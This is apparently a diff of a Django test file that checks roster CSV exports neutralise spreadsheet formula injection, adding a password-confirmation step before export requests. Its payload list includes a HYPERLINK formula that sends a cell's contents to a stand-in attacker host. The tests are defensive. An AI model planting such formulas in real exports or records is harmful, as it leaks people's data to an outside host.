@@ -27,7 +27,7 @@ from courses.models import CoursePage, StakeholderGroup
 from outreach.models import InPersonSession, Organisation, OrganisationManager
 from quizzes.models import Answer, Attempt
 from quizzes.testing import make_quiz
-from tests.conftest import make_user
+from tests.conftest import confirm_password, make_user
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&B2,"Open record")',
@@ -180,6 +180,7 @@ def hostile_world(course_index, hotel_group):
 @pytest.fixture
 def admin_client(client, db):
     client.force_login(make_user("admin@example.org", is_superuser=True, is_staff=True))
+    confirm_password(client)  # exports of people's records ask for it
     return client
 
 
@@ -224,6 +225,7 @@ def test_the_managers_roster_and_the_bulk_roster_keep_typed_formulas_as_text(
     manager = make_user("manager@example.org")
     OrganisationManager.objects.create(user=manager, organisation=organisation)
     client.force_login(manager)
+    confirm_password(client)
     cells = csv_cells(client.get(reverse("outreach:roster", args=[organisation.pk])))
     assert_no_formula("organisation roster", cells)
     assert_payloads_kept("organisation roster", cells)
